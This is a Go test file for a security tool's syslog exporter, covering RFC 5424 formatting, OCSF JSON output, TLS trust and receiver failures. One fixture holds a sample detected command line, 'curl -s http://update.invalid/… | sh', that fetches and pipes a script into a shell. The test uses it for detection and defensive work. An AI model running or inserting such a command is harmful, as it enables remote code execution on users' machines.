package exits

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

// parsed is a message of RFC 5424.
type parsed struct {
	pri    int
	time   time.Time
	host   string
	pen    string
	params map[string]string
	msg    string
}

var (
	reHeader = regexp.MustCompile(`^<(\d{1,3})>1 (\S+) ([!-~]{1,255}) meetguard - alert \[meetguard@([1-9]\d*)`)
	reParam  = regexp.MustCompile(`^ ([a-z0-9_]{1,32})="((?:[^"\\\]]|\\["\\\]])*)"`)
	unescape = strings.NewReplacer(`\"`, `"`, `\\`, `\`, `\]`, `]`)
)

// parse5424 reads a message as strictly as the grammar of RFC 5424, section 6.
func parse5424(m []byte) (parsed, error) {
	p := parsed{params: map[string]string{}}
	if i := bytes.IndexFunc(m, func(r rune) bool { return deceptive(r) && r != '\ufeff' }); i >= 0 {
		return p, fmt.Errorf("byte %d is a control character", i)
	}
	if !utf8.Valid(m) {
		return p, errors.New("not UTF-8")
	}
	h := reHeader.FindSubmatch(m)
	if h == nil {
		return p, fmt.Errorf("the header is %.100q", m)
	}
	p.pri, _ = strconv.Atoi(string(h[1]))
	var err error
	if p.time, err = time.Parse(time.RFC3339Nano, string(h[2])); err != nil {
		return p, err
	}
	p.host, p.pen = string(h[3]), string(h[4])
	rest := m[len(h[0]):]
	for !bytes.HasPrefix(rest, []byte("] ")) {
		f := reParam.FindSubmatch(rest)
		if f == nil {
			return p, fmt.Errorf("a parameter is %.100q", rest)
		}
		p.params[string(f[1])] = unescape.Replace(string(f[2]))
		rest = rest[len(f[0]):]
	}
	msg, marked := bytes.CutPrefix(rest[2:], []byte("\ufeff"))
	p.msg = string(msg)
	if marked == ascii(p.msg) {
		return p, fmt.Errorf("byte order mark %v before %q", marked, p.msg)
	}
	return p, nil
}

func TestSyslogMessage(t *testing.T) {
	it := sample(t, "launch")
	p, err := parse5424(Config{}.syslog().message(open(it, naming{suffix: ".corp.invalid"})))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ what, got, want string }{
		{"priority", fmt.Sprint(p.pri), "132"}, // local0, warning
		{"time", p.time.Format(time.RFC3339), "2026-11-22T12:00:00Z"},
		{"host", p.host, "mac-7.corp.invalid"},
		{"level", p.params["level"], "suspicious"},
		{"command line", p.params["command_line"], `bash -c "curl -s http://update.invalid/… | sh"`},
		{"disposition", p.params["disposition"], "Detected"},
		{"status", p.params["status"], "new"},
		{"message", p.msg, "Possibly fake Google Meet program: It fetches and runs a script in one command line"},
	} {
		if c.got != c.want {
			t.Errorf("%s is %q, want %q", c.what, c.got, c.want)
		}
	}
}

// TestSyslogJSON sends the record as ASCII, and the sentence if it is too long.
// The structured data carries the operator's private enterprise number, and the
// one for examples if there is none.
func TestSyslogEnterprise(t *testing.T) {
	for pen, want := range map[uint32]string{0: "32473", 4294967295: "4294967295"} {
		s := Config{Syslog: &Syslog{PEN: pen}}.syslog()
		p, err := parse5424(s.message(open(sample(t, "launch"), naming{})))
		if err != nil || p.pen != want {
			t.Errorf("%d: %q, %v", pen, p.pen, err)
		}
	}
}

func TestSyslogJSON(t *testing.T) {
	it := sample(t, "launch")
	s := Config{Syslog: &Syslog{Facility: "auth", Message: "ocsf", MaxBytes: 32 << 10}}.syslog()
	p, err := parse5424(s.message(open(it, naming{})))
	if err != nil {
		t.Fatal(err)
	}
	var r struct {
		Status   string
		Unmapped struct {
			Cmd string `json:"mg_command_line"`
		}
	}
	if err := json.Unmarshal([]byte(p.msg), &r); err != nil || r.Status != "New" || !strings.Contains(r.Unmapped.Cmd, "…") || !ascii(p.msg) {
		t.Errorf("%v: %+v", err, r)
	}
	s.MaxBytes = minSyslogBytes
	m := s.message(open(it, naming{}))
	if p, err = parse5424(m); err != nil || len(m) > minSyslogBytes || !strings.HasPrefix(p.msg, "Possibly fake") {
		t.Errorf("%v: %d bytes, message %q", err, len(m), p.msg)
	}
}

// syslogPlay is how a syslog receiver behaves for one connection.
type syslogPlay string

const (
	readAll     syslogPlay = "reads all and ends"
	endAtOnce   syslogPlay = "ends at once"
	resetInside syslogPlay = "resets in the middle"
	neverReads  syslogPlay = "reads nothing"
	neverEnds   syslogPlay = "reads all and stays"
)

// syslogStage is a receiver for octet-counted messages.
type syslogStage struct {
	net.Listener
	t     *testing.T
	mu    sync.Mutex
	plays []syslogPlay
	wg    sync.WaitGroup
	over  chan struct{} // closed at the end of the test
	received
}

func newSyslogStage(t *testing.T, conf *tls.Config, plays ...syslogPlay) *syslogStage {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	if conf != nil {
		ln = tls.NewListener(ln, conf)
	}
	s := &syslogStage{Listener: ln, t: t, plays: plays, over: make(chan struct{})}
	s.wg.Go(s.serve)
	t.Cleanup(func() { ln.Close(); close(s.over); s.wg.Wait() })
	return s
}

func (s *syslogStage) serve() {
	for {
		conn, err := s.Accept()
		if err != nil {
			return
		}
		s.wg.Go(func() { s.handle(conn) })
	}
}

func (s *syslogStage) handle(conn net.Conn) {
	defer conn.Close()
	p := readAll
	s.mu.Lock()
	if len(s.plays) > 0 {
		p, s.plays = s.plays[0], s.plays[1:]
	}
	s.mu.Unlock()
	if t, ok := conn.(*tls.Conn); ok && t.Handshake() != nil {
		return
	}
	switch p {
	case endAtOnce:
		return
	case resetInside:
		io.CopyN(io.Discard, conn, 100)
		raw(conn).SetLinger(0)
		return
	case neverReads:
		<-s.over
		return
	}
	s.add(s.frames(conn)...)
	if p == neverEnds {
		<-s.over
	}
}

func raw(conn net.Conn) *net.TCPConn {
	if t, ok := conn.(*tls.Conn); ok {
		conn = t.NetConn()
	}
	return conn.(*net.TCPConn)
}

// frames reads octet-counted messages to the end and returns their ids.
func (s *syslogStage) frames(conn net.Conn) (ids []string) {
	r := bufio.NewReader(conn)
	for {
		head, err := r.ReadString(' ')
		if err == io.EOF && head == "" {
			return ids
		}
		n, bad := strconv.Atoi(strings.TrimSuffix(head, " "))
		if err != nil || bad != nil {
			return ids
		}
		m := make([]byte, n)
		if _, err := io.ReadFull(r, m); err != nil {
			return ids
		}
		p, err := parse5424(m)
		if err != nil {
			s.t.Error(err)
		}
		ids = append(ids, p.params["alert_id"])
	}
}

// syslogStages runs a test with a receiver of each kind that plays this.
func syslogStages(t *testing.T, timeout time.Duration, plays []syslogPlay, test func(t *testing.T, s *syslogStage, m *memory)) {
	ca := newAuthority(t)
	cert, certFile, keyFile := ca.issue(t)
	for name, conf := range map[string]*tls.Config{
		"tls": {Certificates: []tls.Certificate{cert}, ClientAuth: tls.RequireAndVerifyClientCert, ClientCAs: poolOf(ca)},
		"tcp": nil,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSyslogStage(t, conf, plays...)
			cfg := Config{Name: "soc", Type: TypeSyslog, URL: name + "://" + s.Addr().String(), Batch: 4, Timeout: timeout}
			if conf != nil {
				cfg.CAFile, cfg.CertFile, cfg.KeyFile = ca.file, certFile, keyFile
			} else {
				cfg.Insecure = true
			}
			m := &memory{items: many(t, 10)}
			_, _ = run(t, cfg, mustNew(t, cfg), m, 50)
			s.check(t, m.items)
			if m.cursor != 100 || m.sent != 10 {
				t.Errorf("cursor %d, sent %d", m.cursor, m.sent)
			}
			test(t, s, m)
		})
	}
}

func TestSyslogBreaksOff(t *testing.T) {
	syslogStages(t, time.Minute, []syslogPlay{resetInside}, func(t *testing.T, s *syslogStage, m *memory) {
		if len(m.failures) != 1 || !strings.Contains(m.failures[0], "broke off") {
			t.Errorf("failures %q", m.failures)
		}
	})
}

// TestSyslogResetIsTold: also where the reset comes before our own end of the
// connection, which the system then no longer knows as connected.
func TestSyslogResetIsTold(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	theirs, err := ln.Accept()
	if err != nil {
		t.Fatal(err)
	}
	raw(theirs).SetLinger(0)
	theirs.Close()
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Fatal("nothing was reset")
	}
	err = (&syslog{address: "soc.invalid"}).failure(closeWrite(conn))
	if err == nil || !strings.Contains(err.Error(), "soc.invalid broke off the connection") {
		t.Errorf("told: %v", err)
	}
}

// TestSyslogSlowReceiver: on a busy machine more connections than the two that hang
// may last too long, and some before anything could be sent.
func TestSyslogSlowReceiver(t *testing.T) {
	syslogStages(t, time.Second, []syslogPlay{neverReads, neverEnds}, func(t *testing.T, s *syslogStage, m *memory) {
		if len(m.failures) < 2 {
			t.Errorf("failures %q", m.failures)
		}
		for _, told := range m.failures {
			if !strings.Contains(told, "syslog.confirm") && !strings.Contains(told, "did not answer within 1s") {
				t.Errorf("a failure reads %q", told)
			}
		}
	})
}

// TestSyslogWithoutConfirm is for receivers that never end a connection.
func TestSyslogWithoutConfirm(t *testing.T) {
	s := newSyslogStage(t, nil, neverEnds)
	no := false
	cfg := Config{Name: "soc", Type: TypeSyslog, URL: "tcp://" + s.Addr().String(), Insecure: true, Syslog: &Syslog{Confirm: &no}}
	m := &memory{items: many(t, 3)}
	run(t, cfg, mustNew(t, cfg), m, 2)
	if len(m.failures) != 0 || m.cursor != 30 {
		t.Errorf("cursor %d, failures %q", m.cursor, m.failures)
	}
}

func TestSyslogTrust(t *testing.T) {
	ours, theirs := newAuthority(t), newAuthority(t)
	cert, _, _ := theirs.issue(t)
	s := newSyslogStage(t, &tls.Config{Certificates: []tls.Certificate{cert}})
	cfg := Config{Name: "soc", Type: TypeSyslog, URL: "tls://" + s.Addr().String(), CAFile: ours.file}
	m := &memory{items: many(t, 3)}
	run(t, cfg, mustNew(t, cfg), m, 2)
	if m.cursor != 0 || len(s.ids) != 0 || !strings.Contains(m.failures[0], "ca_file") {
		t.Errorf("cursor %d, arrived %v, failures %q", m.cursor, s.ids, m.failures)
	}
}

func TestSyslogUDP(t *testing.T) {
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	cfg := Config{Name: "soc", Type: TypeSyslog, URL: "udp://" + conn.LocalAddr().String(), Insecure: true}
	m := &memory{items: many(t, 3)}
	run(t, cfg, mustNew(t, cfg), m, 2)
	var got received
	buf := make([]byte, 64<<10)
	for range m.items {
		conn.SetReadDeadline(time.Now().Add(time.Minute))
		n, _, err := conn.ReadFrom(buf)
		if err != nil {
			t.Fatal(err)
		}
		p, err := parse5424(buf[:n])
		if err != nil || n > defaultUDPBytes {
			t.Errorf("%d bytes: %v", n, err)
		}
		got.add(p.params["alert_id"])
	}
	got.check(t, m.items)
}
